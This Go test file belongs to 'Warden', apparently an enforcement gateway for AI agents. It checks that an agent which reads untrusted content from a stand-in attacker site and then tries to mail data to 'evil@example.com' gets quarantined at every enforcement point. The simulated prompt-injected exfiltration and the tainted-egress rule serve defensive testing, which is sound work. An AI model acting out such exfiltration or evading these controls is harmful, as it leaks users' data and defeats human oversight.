package enforce_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/warden-run/warden/internal/policy"
	"github.com/warden-run/warden/internal/store"
)

// responsePlaybook quarantines an agent that tries to send data out after
// reading untrusted content, until a person releases it.
const responsePlaybook = `package warden.response

actions contains {"action": "quarantine", "reason": "egress after untrusted content"} if "tainted_egress" in input.fired
`

// A prompt-injected agent that tries to exfiltrate is quarantined by
// Warden itself, and every enforcement point refuses it from then on: the
// MCP gateway (on the session it already has), the HTTP proxy, and a
// remote enforcement point asking /v1/decide with a token the agent held.
func TestResponseReachesEveryEnforcementPoint(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	v, _, _, err := r.w.App.Policies.Push(r.ctx, "admin:test", &policy.Bundle{Files: map[string][]byte{
		"policy.rego": []byte(attackPolicy), "data.json": []byte(attackData), "response.rego": []byte(responsePlaybook)}}, "with a playbook")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.w.App.Policies.Activate(r.ctx, "admin:test", v.ID); err != nil {
		t.Fatal(err)
	}
	id := "ai-agent://dev/ops/turned"
	a := r.agent(id)
	tok, err := a.mcp.Token(r.ctx) // held before the quarantine, used at the remote point after it
	if err != nil {
		t.Fatal(err)
	}
	pep := r.remotePoint(t, r.mcpURL)
	// The proxy is used before: its client holds a token from then on.
	if status, body := r.do(a, "GET", "/api/items", ""); status != http.StatusOK {
		t.Fatalf("the proxy before the attack: HTTP %d %s", status, body)
	}

	// A protocol version with sessions; no standalone event stream, whose
	// reconnection (none allowed here) is not what this test is about.
	c := mcp.NewClient(&mcp.Implementation{Name: "turned", Version: "1"}, &mcp.ClientOptions{Capabilities: &mcp.ClientCapabilities{}})
	s, err := c.Connect(r.ctx, &mcp.StreamableClientTransport{Endpoint: r.mcpURL, HTTPClient: &http.Client{Transport: a.mcp.Transport(nil)},
		MaxRetries: -1, DisableStandaloneSSE: true}, &mcp.ClientSessionOptions{ProtocolVersion: "2025-11-25"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	if !r.call(s, "web__fetch", map[string]any{"url": "https://evil.example"}) {
		t.Fatal("the untrusted read was denied")
	}
	if !slices.Contains(r.gw.MCP.Agents(), id) {
		t.Fatalf("the gateway does not list the agent's session: %v", r.gw.MCP.Agents())
	}
	if r.call(s, "mail__send", map[string]any{"to": "evil@example.com"}) {
		t.Fatal("egress after untrusted content was allowed")
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		ag, err := r.w.App.Registry.Agent(r.ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		if ag.Status == store.StatusQuarantined {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the agent is %s, not quarantined, 10s after the attempt", ag.Status)
		}
		time.Sleep(5 * time.Millisecond)
	}

	// The gateway ends the sessions the agent holds.
	for deadline := time.Now().Add(10 * time.Second); slices.Contains(r.gw.MCP.Agents(), id); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the quarantined agent still holds its MCP session 10 s later")
		}
	}
	// The MCP gateway, on the session the agent had.
	if _, err := s.CallTool(r.ctx, &mcp.CallToolParams{Name: "kb__search", Arguments: map[string]any{}}); err == nil {
		t.Error("the MCP gateway let the quarantined agent call a tool")
	}
	// The HTTP proxy.
	if status, body := r.do(a, "GET", "/api/items", ""); status != http.StatusUnauthorized && status != http.StatusForbidden {
		t.Errorf("the HTTP proxy answered the quarantined agent: HTTP %d %s", status, body)
	}
	// A remote enforcement point.
	if d := pep.decide(t, tok.AccessToken, "mcp.tool", "kb/search"); d.Outcome != "deny" || !slices.Contains(d.Reasons, "warden.agent_quarantined") {
		t.Errorf("a remote enforcement point got %+v", d)
	}
	// The incident says what happened, with the attempt as evidence (the
	// responder records the action once it is in force).
	var inc store.Incident
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		incs, err := r.w.App.Store.Incidents(r.ctx, store.IncidentFilter{AgentID: id})
		if err != nil || len(incs) > 1 {
			t.Fatalf("incidents: %+v, %v", incs, err)
		}
		if len(incs) == 1 && slices.ContainsFunc(incs[0].Actions, func(x store.IncidentAction) bool { return x.Action == "quarantine" }) {
			inc = incs[0]
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("incident without the quarantine 10 s later: %+v", incs)
		}
	}
	if inc.Status != store.IncidentOpen {
		t.Fatalf("incident %+v", inc)
	}
	// Nothing reached the mail server.
	if sent := r.egress(); len(sent) > 0 {
		t.Fatalf("sent: %v", sent)
	}
}

// remote is an enforcement point registered with Warden that asks for
// decisions over the API.
type remote struct {
	url, credential string
}

func (r *rig) remotePoint(t *testing.T, audience string) *remote {
	t.Helper()
	body := fmt.Sprintf(`{"name": "remote-gw", "audience": %q, "trust": ["all"]}`, audience)
	req, _ := http.NewRequest("POST", r.w.URL+"/v1/enforcement-points", strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+r.w.AdminToken)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var reg struct {
		Credential string `json:"credential"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&reg); err != nil || reg.Credential == "" {
		t.Fatalf("register an enforcement point: HTTP %d, %v", resp.StatusCode, err)
	}
	return &remote{url: r.w.URL, credential: reg.Credential}
}

type remoteDecision struct {
	Outcome string   `json:"outcome"`
	Reasons []string `json:"reasons"`
}

func (p *remote) decide(t *testing.T, token, kind, id string) remoteDecision {
	t.Helper()
	body := fmt.Sprintf(`{"token": %q, "action": "tools/call", "resource": {"kind": %q, "id": %q}, "args": {}}`, token, kind, id)
	req, _ := http.NewRequestWithContext(context.Background(), "POST", p.url+"/v1/decide", strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+p.credential)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	var d remoteDecision
	if err := json.Unmarshal(b, &d); err != nil {
		t.Fatalf("decide: HTTP %d %s", resp.StatusCode, b)
	}
	return d
}
